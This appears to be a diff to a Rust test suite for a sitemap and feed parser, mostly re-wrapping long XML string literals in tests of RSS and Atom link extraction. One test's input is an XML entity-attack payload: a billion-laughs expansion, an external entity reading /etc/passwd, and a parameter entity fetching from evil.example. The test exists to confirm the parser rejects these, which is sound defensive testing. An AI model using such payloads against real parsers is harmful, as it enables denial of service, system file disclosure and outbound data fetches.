@@ -339,7 +339,8 @@ fn a_declared_entity_is_neither_expanded_nor_fetched() {
         })
         .collect();
     let body = format!(
-        "<?xml version=\"1.0\"?><!DOCTYPE urlset [<!ENTITY lol0 \"/lol\">{laughs}<!ENTITY x SYSTEM \"file:///etc/passwd\">\
+        "<?xml version=\"1.0\"?><!DOCTYPE urlset [<!ENTITY lol0 \"/lol\">{laughs}<!ENTITY x \
+         SYSTEM \"file:///etc/passwd\">\
          <!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>\
          <urlset><url><loc>/&lol9;</loc></url><url><loc>&x;</loc></url><url><loc>/a</loc></url></urlset>"
     );
@@ -395,8 +396,10 @@ fn rss_of_every_version_lists_its_items() {
     // RSS 0.90 and 1.0: the items stand beside the channel.
     lists(
         format!(
-            "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>\
-             <channel rdf:about='/'><link>https://site.example/</link><items><rdf:Seq><rdf:li resource='/a'/></rdf:Seq>\
+            "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' \
+             xmlns='http://purl.org/rss/1.0/'>\
+             <channel rdf:about='/'><link>https://site.example/</link><items><rdf:Seq><rdf:li \
+             resource='/a'/></rdf:Seq>\
              </items></channel><image><link>/i</link></image>{two}<textinput><link>/t</link></textinput></rdf:RDF>"
         ),
         &[A, B],
@@ -425,7 +428,8 @@ fn of_an_item_the_links_count_and_a_guid_where_there_is_none() {
         ("<atom:link rel='self' href='/a'/>", None),
         ("<media:link>/a</media:link>", None),
         (
-            "<enclosure url='/a.mp3'/><source url='/x'>x</source><comments>/c</comments><link>/a</link>",
+            "<enclosure url='/a.mp3'/><source \
+             url='/x'>x</source><comments>/c</comments><link>/a</link>",
             Some(A),
         ),
         ("<link><![CDATA[/a]]></link>", Some(A)),
@@ -438,11 +442,13 @@ fn of_an_item_the_links_count_and_a_guid_where_there_is_none() {
 #[test]
 fn atom_lists_the_alternates_of_its_entries_relative_to_xml_base() {
     let listing = lists(
-        "<?xml version='1.0' encoding='utf-8'?><feed xmlns='http://www.w3.org/2005/Atom' xml:base='https://site.example/x/'>\
+        "<?xml version='1.0' encoding='utf-8'?><feed xmlns='http://www.w3.org/2005/Atom' \
+         xml:base='https://site.example/x/'>\
          <link href='./'/><link rel='self' href='feed'/><link rel='next' href='?page=2'/>\
          <link rel='prev-archive' href='/old'/><link rel='hub' href='/hub'/>\
          <entry><link href='../a'/><link rel='edit' href='e'/><id>urn:x</id>\
-         <content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><a href='/no'>x</a><link href='/no'/></div></content>\
+         <content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><a href='/no'>x</a><link \
+         href='/no'/></div></content>\
          <source><link href='/no'/></source></entry>\
          <entry xml:base='/'><link rel='alternate' type='text/html' href='b'/></entry></feed>",
         &[A, B],
